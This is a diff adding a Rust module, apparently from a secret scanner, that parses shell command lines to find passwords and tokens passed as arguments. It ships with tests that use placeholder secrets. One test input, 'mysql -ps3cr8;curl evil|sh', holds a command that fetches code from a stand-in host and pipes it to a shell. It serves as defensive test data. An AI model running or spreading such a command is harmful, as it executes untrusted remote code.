@@ -1,0 +1,648 @@
+//! Arguments of programs: lists of them, and shell lines wherever a text holds one.
+
+use std::ops::Range;
+
+use super::ends::Quotes;
+use super::programs::{self, Opt, PROGRAMS, Program, Stdin, What};
+use super::{Hint, headers, is_prose, is_secret, is_value};
+use crate::detect::runs::{NAME, is, run};
+use crate::detect::{Detector, Hit, push};
+
+/// Longest name of an option that is read.
+const LONGEST_NAME: usize = 80;
+/// How far a quote in a shell line may be from the one that closes it.
+const LONGEST_QUOTED: usize = 8 << 10;
+/// How deep quoted lines inside lines are read.
+const DEEPEST: u8 = 3;
+
+/// Reads the arguments of a command one after another.
+#[derive(Default)]
+pub(crate) struct Arguments {
+    /// The program seen last, and the one before it: a host or a user may be called like one.
+    programs: [Option<Running>; 2],
+    /// The last argument was an option that this value belongs to.
+    awaits: Option<What>,
+    /// The last argument was an option with a name that hints.
+    flagged: Option<Hint>,
+    /// The last argument hints at what the next one is.
+    named: bool,
+    /// Whether this is a line of a text, whose assignments another reader sees.
+    in_text: bool,
+}
+
+#[derive(Clone, Copy)]
+struct Running {
+    program: &'static Program,
+    /// Whether the options count.
+    armed: bool,
+    /// How many positional arguments there were.
+    words: u8,
+    /// Which of the patterns still fit.
+    fits: u8,
+}
+
+impl Arguments {
+    /// Reads the next argument; gives the part of it that is a secret.
+    pub(crate) fn next(&mut self, text: &[u8]) -> Option<Range<usize>> {
+        let flagged = self.flagged.take();
+        let awaits = self.awaits.take();
+        let named = std::mem::take(&mut self.named);
+        let is_option = text.len() > 1 && text[0] == b'-';
+        if let Some(hint) = flagged
+            && !looks_like_option(text)
+        {
+            // One digit is a number of something; a path says where the secret is.
+            let goes = text.len() > 1 && !is_deep_path(text) && hint.goes(text);
+            return goes.then_some(0..text.len());
+        }
+        if let Some(what) = awaits
+            && !looks_like_option(text)
+        {
+            return part(what, text, 0);
+        }
+        if is_option {
+            return self.option(text);
+        }
+        self.named = is_secret(text);
+        let found = self.positional(text, named);
+        if let Some(program) = programs::find(text) {
+            // Rows without options are of programs that take no secret.
+            let last = self.programs[0].filter(|_| takes_any(program));
+            let running = Running {
+                program,
+                armed: program.after.is_empty(),
+                words: 0,
+                fits: (1u16 << program.words.len()).wrapping_sub(1) as u8,
+            };
+            self.programs = [Some(running), last];
+        }
+        found.or_else(|| self.assigned(text))
+    }
+
+    fn assigned(&self, text: &[u8]) -> Option<Range<usize>> {
+        if self.in_text { None } else { assigned(text) }
+    }
+
+    /// An option: its own value, or the mark that the next argument is one.
+    fn option(&mut self, text: &[u8]) -> Option<Range<usize>> {
+        let programs = self.programs;
+        for running in programs.iter().flatten().filter(|running| running.armed) {
+            for option in running.program.options {
+                match matched(option, text) {
+                    Match::No => {}
+                    Match::Next => {
+                        self.awaits = Some(option.what);
+                        return None;
+                    }
+                    Match::Value(from) => return part(option.what, text, from),
+                }
+            }
+        }
+        let dashes = text.iter().take_while(|b| **b == b'-').count();
+        let name = &text[dashes..];
+        if let Some(found) = self.assigned(text) {
+            return Some(found);
+        }
+        let plain = text.len() <= LONGEST_NAME && memchr::memchr3(b'=', b' ', b':', name).is_none();
+        self.flagged =
+            (plain && name.len() > 1).then(|| Hint::of(name)).filter(|hint| hint.hints());
+        None
+    }
+
+    /// An argument that is no option.
+    fn positional(&mut self, text: &[u8], named: bool) -> Option<Range<usize>> {
+        let mut found = None;
+        for running in self.programs.iter_mut().flatten() {
+            let program = running.program;
+            running.armed |= program.after.iter().any(|word| word.as_bytes() == text);
+            for (nth, pattern) in program.words.iter().enumerate() {
+                if running.fits >> nth & 1 == 0 {
+                    continue;
+                }
+                let what = match pattern.split(' ').nth(usize::from(running.words)) {
+                    Some("*") => continue,
+                    Some("@") if memchr::memchr2(b'/', b'.', text).is_none() => continue,
+                    Some("!") => Some(What::Whole),
+                    Some("!:") => Some(What::AfterColon),
+                    Some("!/") => Some(What::AfterSlash),
+                    Some("!?") if named => Some(What::Whole),
+                    Some(word) if text.eq_ignore_ascii_case(word.as_bytes()) => continue,
+                    _ => None,
+                };
+                running.fits &= !(1 << nth);
+                found = found.or_else(|| part(what?, text, 0));
+            }
+            running.words = running.words.saturating_add(1);
+        }
+        found
+    }
+
+    /// Whether what is written to the command's input holds a secret, as far as is known.
+    fn stdin(&self) -> Option<Stdin> {
+        let kinds = self.programs.iter().flatten().map(|running| running.program.stdin);
+        kinds.into_iter().find(|kind| *kind != Stdin::Other)
+    }
+}
+
+fn takes_any(program: &Program) -> bool {
+    !program.options.is_empty() || !program.words.is_empty() || program.stdin != Stdin::Other
+}
+
+/// `--name`, `-x`: no value of another option.
+fn looks_like_option(text: &[u8]) -> bool {
+    match text {
+        [b'-', b'-', letter, ..] => letter.is_ascii_alphabetic(),
+        [b'-', letter] => letter.is_ascii_alphabetic(),
+        [b'-', rest @ ..] => {
+            rest.len() < 24
+                && rest.iter().all(|b| b.is_ascii_lowercase() || matches!(b, b'-' | b'='))
+        }
+        _ => false,
+    }
+}
+
+/// `/etc/tls/tls.key`: two slashes and more, and nothing but names between.
+fn is_deep_path(text: &[u8]) -> bool {
+    let slashes = text.iter().filter(|b| **b == b'/').count();
+    text[0] == b'/' && slashes > 1 && text.iter().all(|b| is(*b, NAME) || *b == b'/')
+}
+
+/// `$name`: in a shell line always a variable.
+fn is_shell_variable(text: &[u8]) -> bool {
+    text.strip_prefix(b"$").is_some_and(|name| {
+        !name.is_empty() && name.iter().all(|b| b.is_ascii_lowercase() || *b == b'_')
+    })
+}
+
+enum Match {
+    No,
+    /// The value is the next argument.
+    Next,
+    /// The value starts here.
+    Value(usize),
+}
+
+/// Whether an argument is this option.
+fn matched(option: &Opt, text: &[u8]) -> Match {
+    let name = option.name.as_bytes();
+    let short = name.len() == 2;
+    if let Some(rest) = text.strip_prefix(name) {
+        if rest.is_empty() {
+            return if option.next { Match::Next } else { Match::No };
+        }
+        if rest[0] == b'=' && option.next {
+            return Match::Value(name.len() + 1);
+        }
+        // `-port` is no `-p` with a value.
+        const WORDS: [&[u8]; 12] = [
+            b"-port",
+            b"-path",
+            b"-ping",
+            b"-password",
+            b"-pass",
+            b"-print",
+            b"-profile",
+            b"-pretty",
+            b"-protocol",
+            b"-prefix",
+            b"-username",
+            b"-url",
+        ];
+        if option.glued && !WORDS.contains(&text) && !text.starts_with(b"--") {
+            return Match::Value(name.len());
+        }
+    }
+    // `-sku user:secret`, `-skuuser:secret`
+    if short
+        && matches!(option.what, What::AfterColon | What::Header)
+        && text.len() > 2
+        && text[1] != b'-'
+        && let Some(at) = text[1..].iter().take(8).position(|b| *b == name[1])
+        && text[1..1 + at].iter().all(u8::is_ascii_alphabetic)
+    {
+        if at + 2 == text.len() && option.next {
+            return Match::Next;
+        }
+        if option.glued && text[at + 2..].contains(&b':') {
+            return Match::Value(at + 2);
+        }
+    }
+    Match::No
+}
+
+/// The secret part of an option's value, which starts at `from`.
+fn part(what: What, text: &[u8], from: usize) -> Option<Range<usize>> {
+    let whole = super::ends::unquoted(text, from..text.len());
+    let (from, text) = (whole.start, &text[..whole.end]);
+    let value = &text[from..];
+    let after = |sign: u8| memchr::memchr(sign, value).map(|at| from + at + 1);
+    let range = match what {
+        What::Whole => from..text.len(),
+        What::AfterColon => {
+            let start = after(b':')?;
+            if text[start..].starts_with(b"//") {
+                return None;
+            }
+            start..text.len()
+        }
+        What::AfterPercent => after(b'%')?..text.len(),
+        What::AfterComma => after(b',')?..text.len(),
+        What::AfterSlash => {
+            let start = after(b'/')
+                .filter(|start| run(text, from, NAME, 64) + 1 == *start && *start > from + 1)?;
+            let end = memchr::memrchr(b'@', &text[start..]).map_or(text.len(), |at| start + at);
+            start..end
+        }
+        What::Pass => {
+            let colon = after(b':')?;
+            let kind = &text[from..colon];
+            let inline = kind.starts_with(b"pass")
+                || kind.starts_with(b"hexkey")
+                || kind.starts_with(b"key");
+            inline.then_some(colon..text.len())?
+        }
+        What::Header => {
+            let found = headers::line(value)?;
+            from + found.start..from + found.end
+        }
+        What::Url => return None,
+    };
+    is_value(&text[range.clone()]).then_some(range)
+}
+
+/// `--name=SECRET`, `NAME=SECRET` and `--set=a.name=SECRET`: all that follows.
+fn assigned(text: &[u8]) -> Option<Range<usize>> {
+    // Every byte is looked at once: a text full of `=` must not cost the square of its length.
+    let mut from = 0;
+    for at in memchr::memchr_iter(b'=', text) {
+        let name = &text[from..at];
+        from = at + 1;
+        if memchr::memchr3(b' ', b'/', b'\n', name).is_some() {
+            return None;
+        }
+        let dashes = name.iter().take_while(|b| **b == b'-').count();
+        if name.len() > LONGEST_NAME || !super::hinted(&name[dashes..], &text[at + 1..]) {
+            continue;
+        }
+        let value = super::ends::unquoted(text, at + 1..text.len());
+        // A script is a text of its own.
+        let is_text = memchr::memchr(b'\n', &text[value.clone()]).is_some();
+        return (!is_text && is_value(&text[value.clone()])).then_some(value);
+    }
+    None
+}
+
+/// What a command printed that is piped into the next one.
+#[derive(Clone)]
+struct Printed {
+    words: Range<usize>,
+    /// The first word says how the others are printed.
+    formatted: bool,
+}
+
+/// Appends the secrets among the arguments of every command in a text.
+pub(super) fn lines(hay: &[u8], hits: &mut Vec<Hit>) {
+    let from = hits.len();
+    inside(hay, 0, 0, hits);
+    // Quoted lines were read on the way, from their start.
+    hits[from..].sort_unstable_by_key(|hit| hit.start);
+}
+
+fn inside(hay: &[u8], base: usize, depth: u8, hits: &mut Vec<Hit>) {
+    let mut arguments = Arguments { in_text: true, ..Arguments::default() };
+    let mut quotes = Quotes::default();
+    let mut first = true;
+    let mut echo: Option<Printed> = None;
+    let mut printed: Option<Printed> = None;
+    let mut here = false;
+    let mut listed = false;
+    let mut at = 0;
+    let take = |range: Range<usize>, hits: &mut Vec<Hit>| {
+        if !range.is_empty() && is_value(&hay[range.clone()]) {
+            push(hits, base + range.start, base + range.end, Detector::SecretAssignment);
+        }
+    };
+    while at < hay.len() {
+        match hay[at] {
+            b' ' | b'\t' | b'\r' => at += 1,
+            b'\\' if matches!(hay.get(at + 1), Some(b'\n')) => at += 2,
+            b'\n' => {
+                at += 1;
+                let blanks = hay[at..].iter().take_while(|b| **b == b' ').count();
+                let item = hay[at + blanks..].starts_with(b"- ");
+                // Arguments one below the other, as items of a YAML list.
+                if !(item && listed) {
+                    (arguments, first, echo, printed) =
+                        (Arguments { in_text: true, ..Arguments::default() }, true, None, None);
+                }
+                listed = item;
+                at += blanks;
+            }
+            b'|' if hay.get(at + 1) != Some(&b'|') => {
+                printed = echo.take();
+                (arguments, first) = (Arguments { in_text: true, ..Arguments::default() }, true);
+                at += 1;
+            }
+            b';' | b'|' | b'&' | b'(' | b')' | b'`' | b'{' | b'}' => {
+                (arguments, first, echo, printed) =
+                    (Arguments { in_text: true, ..Arguments::default() }, true, None, None);
+                at += 1;
+            }
+            b'<' if hay[at..].starts_with(b"<<<") => {
+                here = true;
+                at += 3;
+            }
+            b'<' if hay[at..].starts_with(b"<<") => {
+                at += 2;
+                if let Some(kind) = arguments.stdin() {
+                    at = here_document(hay, at, kind, &mut |range| take(range, hits));
+                }
+            }
+            b'<' | b'>' | b'#' | b'[' | b',' | b']' => at += 1,
+            b'-' if matches!(hay.get(at + 1), None | Some(b' ' | b'\n')) => at += 1,
+            _ => {
+                let start = at;
+                at = word_end(hay, start, &mut quotes);
+                let inner = super::ends::unquoted(hay, trimmed(hay, start..at));
+                let text = &hay[inner.clone()];
+                if std::mem::take(&mut here) {
+                    match arguments.stdin() {
+                        Some(Stdin::Pairs) => pairs(text).for_each(|range| {
+                            take(inner.start + range.start..inner.start + range.end, hits);
+                        }),
+                        Some(Stdin::Secret) => take(inner, hits),
+                        _ => {}
+                    }
+                    continue;
+                }
+                // In a list the comma stands after a quote; elsewhere it ends a sentence.
+                let sentence = hay[at - 1] == b',' && !matches!(hay[at - 2], b'"' | b'\'');
+                let flagged = arguments.flagged.is_some();
+                if first && programs::prints(text) {
+                    echo = Some(Printed { words: at..at, formatted: text == b"printf" });
+                } else if let Some(echo) = &mut echo {
+                    echo.words.end = at;
+                }
+                first = false;
+                let was = arguments.programs[0].map(|running| running.program.names.as_ptr());
+                let found = arguments.next(text);
+                if sentence {
+                    arguments = Arguments { in_text: true, ..Arguments::default() };
+                }
+                let new =
+                    arguments.programs[0].map(|running| running.program.names.as_ptr()) != was;
+                if let Some(printed) = printed.clone() {
+                    let wanted = match arguments.stdin() {
+                        Some(Stdin::With(words)) if words.iter().any(|w| w.as_bytes() == text) => {
+                            Some(Stdin::Secret)
+                        }
+                        Some(kind @ (Stdin::Secret | Stdin::Pairs)) if new => Some(kind),
+                        _ => None,
+                    };
+                    if let Some(kind) = wanted {
+                        printed_words(hay, &printed, kind, &mut |range| take(range, hits));
+                    }
+                }
+                match found {
+                    // "the option --token is"
+                    Some(_) if flagged && is_prose(text) => {}
+                    Some(range) if is_shell_variable(&text[range.clone()]) => {}
+                    Some(range) => take(inner.start + range.start..inner.start + range.end, hits),
+                    None if depth < DEEPEST && memchr::memchr(b' ', text).is_some() => {
+                        // A line within quotes: `sh -c "x"`, `a="$(x)"`.
+                        let quote = memchr::memchr2(b'"', b'\'', &hay[start..at]);
+                        if let Some(quote) = quote.map(|quote| start + quote) {
+                            let line = super::ends::unquoted(hay, quote..at);
+                            inside(&hay[line.clone()], base + line.start, depth + 1, hits);
+                        }
+                    }
+                    None => {}
+                }
+            }
+        }
+    }
+}
+
+/// Where the word that starts at `from` ends: at white space or a sign of the shell, unless quoted.
+fn word_end(hay: &[u8], from: usize, quotes: &mut Quotes) -> usize {
+    let mut at = from;
+    while at < hay.len() {
+        match hay[at] {
+            b' ' | b'\t' | b'\r' | b'\n' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')'
+            | b'`' => break,
+            b'\\' => at += 2,
+            b'\'' | b'"' => {
+                // An apostrophe in a word of prose opens nothing.
+                let opens = at == from
+                    || hay[from] == b'-'
+                    || !hay[at - 1].is_ascii_alphanumeric() && hay[at - 1] < 0x80;
+                match quotes.close(hay, at).filter(|close| opens && close - at <= LONGEST_QUOTED) {
+                    Some(close) => at = close + 1,
+                    None => at += 1,
+                }
+            }
+            b'$' if hay.get(at + 1) == Some(&b'(') => {
+                let name = run(hay, at + 2, NAME, 64);
+                if name == at + 2 || hay.get(name) != Some(&b')') {
+                    break;
+                }
+                at = name + 1;
+            }
+            b'$' if hay.get(at + 1) == Some(&b'{') => {
+                let rest = &hay[at..hay.len().min(at + 256)];
+                at += memchr::memchr2(b'}', b'\n', rest).map_or(1, |end| end + 1);
+            }
+            _ => at += 1,
+        }
+    }
+    // A dollar before a bracket, or a sign alone.
+    at.clamp(from + 1, hay.len())
+}
+
+/// A word without what lists and sentences put around it.
+fn trimmed(hay: &[u8], word: Range<usize>) -> Range<usize> {
+    let Range { mut start, mut end } = word;
+    while end > start + 1 && matches!(hay[end - 1], b',' | b']') {
+        end -= 1;
+    }
+    while start + 1 < end && matches!(hay[start], b'[' | b',') {
+        start += 1;
+    }
+    start..end
+}
+
+/// `user:SECRET` on each line.
+pub(super) fn pairs(text: &[u8]) -> impl Iterator<Item = Range<usize>> {
+    let mut at = 0;
+    text.split(|b| *b == b'\n').filter_map(move |line| {
+        let start = at;
+        at += line.len() + 1;
+        let indent = line.len() - line.trim_ascii_start().len();
+        let colon = memchr::memchr(b':', line).filter(|colon| *colon > indent)?;
+        let secret = start + colon + 1..start + line.trim_ascii_end().len();
+        (!secret.is_empty()).then_some(secret)
+    })
+}
+
+/// The lines that follow `<<WORD`; gives where they end.
+fn here_document(hay: &[u8], at: usize, kind: Stdin, take: &mut dyn FnMut(Range<usize>)) -> usize {
+    let skip =
+        hay[at..].iter().take(8).take_while(|b| matches!(b, b'-' | b' ' | b'\'' | b'"')).count();
+    let word = run(hay, at + skip, NAME, 32);
+    let end_mark = &hay[at + skip..word];
+    let Some(start) = memchr::memchr(b'\n', &hay[word..]).map(|len| word + len + 1) else {
+        return word;
+    };
+    if end_mark.is_empty() {
+        return word;
+    }
+    let mut line = start;
+    while line < hay.len() {
+        let end = memchr::memchr(b'\n', &hay[line..]).map_or(hay.len(), |len| line + len);
+        let text = hay[line..end].trim_ascii();
+        if text == end_mark {
+            return line;
+        }
+        let first = line + (hay[line..end].len() - hay[line..end].trim_ascii_start().len());
+        match kind {
+            Stdin::Pairs => pairs(text).for_each(|r| take(first + r.start..first + r.end)),
+            Stdin::Secret => take(first..first + text.len()),
+            _ => {}
+        }
+        line = end + 1;
+    }
+    hay.len()
+}
+
+/// What `echo` or `printf` wrote for a program that reads a secret.
+fn printed_words(hay: &[u8], printed: &Printed, kind: Stdin, take: &mut dyn FnMut(Range<usize>)) {
+    let mut at = printed.words.start;
+    let end = printed.words.end;
+    let mut formatted = printed.formatted;
+    let mut quotes = Quotes::default();
+    while at < end {
+        if hay[at].is_ascii_whitespace() {
+            at += 1;
+            continue;
+        }
+        let start = at;
+        at = word_end(hay, start, &mut quotes).min(end);
+        let inner = super::ends::unquoted(hay, start..at);
+        let text = &hay[inner.clone()];
+        if std::mem::take(&mut formatted) && memchr::memchr(b'%', text).is_some()
+            || text.starts_with(b"-")
+            || text.len() < 4
+        {
+            continue;
+        }
+        match kind {
+            Stdin::Pairs => {
+                // `printf 'a:x\nb:y\n'`: up to the backslash of an escape.
+                let text = &text[..memchr::memchr(b'\\', text).unwrap_or(text.len())];
+                pairs(text).for_each(|r| take(inner.start + r.start..inner.start + r.end));
+            }
+            _ => take(inner),
+        }
+    }
+}
+
+/// Whether a text is an argument list by nature: its first item is a known program.
+pub(crate) fn runs_a_program(word: &[u8]) -> bool {
+    programs::find(word).is_some_and(takes_any)
+}
+
+const _: () = {
+    let mut row = 0;
+    while row < PROGRAMS.len() {
+        assert!(PROGRAMS[row].words.len() <= 8);
+        row += 1;
+    }
+};
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn found(line: &str) -> Vec<String> {
+        let mut hits = Vec::new();
+        lines(line.as_bytes(), &mut hits);
+        hits.iter().map(|hit| line[hit.start as usize..hit.end as usize].to_owned()).collect()
+    }
+
+    /// What a shell makes of a line without pipes.
+    fn split(line: &str) -> Vec<String> {
+        let mut words = vec![String::new()];
+        let mut quote = None;
+        for c in line.chars() {
+            match quote {
+                Some(q) if c == q => quote = None,
+                None if c == '\'' || c == '"' => quote = Some(c),
+                None if c == ' ' => words.push(String::new()),
+                _ => words.last_mut().unwrap().push(c),
+            }
+        }
+        words
+    }
+
+    fn listed(words: &[String]) -> Vec<String> {
+        let mut arguments = Arguments::default();
+        let found = words.iter().filter_map(|w| Some(w[arguments.next(w.as_bytes())?].to_owned()));
+        found.collect()
+    }
+
+    #[test]
+    fn every_row_does_what_its_examples_say() {
+        for program in PROGRAMS {
+            assert!(!takes_any(program) || !program.examples.is_empty(), "{:?}", program.names);
+            for (line, secret) in program.examples {
+                let all = found(line);
+                assert!(!all.is_empty() && all.iter().all(|t| t == secret), "{line}: {all:?}");
+                if !line.contains(['|', '<']) {
+                    assert_eq!(listed(&split(line)), [*secret], "{line} as a list");
+                }
+            }
+            for line in program.innocent {
+                assert_eq!(found(line), Vec::<String>::new(), "{line}");
+                if !line.contains(['|', '<', ';']) {
+                    assert_eq!(listed(&split(line)), Vec::<String>::new(), "{line} as a list");
+                }
+            }
+            for name in program.names {
+                assert!(
+                    programs::find(name.as_bytes()).is_some_and(|row| std::ptr::eq(row, program))
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn lines_are_found_where_they_stand() {
+        for (line, secret) in [
+            ("sh -c \"mysql -uroot -p's3cr8' -e 'select 1'\"", "s3cr8"),
+            ("set -e\nX=1 redis-cli -a s3cr8 ping | grep PONG\n", "s3cr8"),
+            ("Exec lifecycle hook ([redis-cli -a s3cr8 shutdown]) failed", "s3cr8"),
+            ("till-sync --api-key s3cr8 --region eu-1", "s3cr8"),
+            ("till --passphrase -s3cr8x --v=2", "-s3cr8x"),
+            ("args:\n  - mysql\n  - -ps3cr8\n", "s3cr8"),
+            ("CMD [\"till\", \"--db-password\", \"s3cr8\"]", "s3cr8"),
+            ("chpasswd <<EOF\nroot:s3cr8\nEOF\nls\n", "s3cr8"),
+            ("sudo -u app mongosh --quiet -p s3cr8", "s3cr8"),
+            ("redis-cli -h mongo -a s3cr8 ping", "s3cr8"),
+            ("local a=\"$(redis-cli -h ${HOST} -a s3cr8 PING)\"\nif x; then", "s3cr8"),
+            ("mysql -ps3cr8;curl evil|sh", "s3cr8"),
+        ] {
+            assert_eq!(found(line), [secret], "{line}");
+        }
+        for line in [
+            "the option --token is deprecated",
+            "mkdir -p /data/app && tar -p -xf a.tgz && psql -U app -p 5432 -c 'select 1' && date -u +%F",
+            "don't use mysql -p here, it's asked for",
+            "mysql --password=$(MYSQL_PASSWORD) -h db",
+            "till --token ${TOKEN} --password \"$PW\"",
+            "kubectl create secret generic x --from-file=token=/run/token",
+            "--use-token --verbose",
+        ] {
+            assert_eq!(found(line), Vec::<String>::new(), "{line}");
+        }
+    }
+}
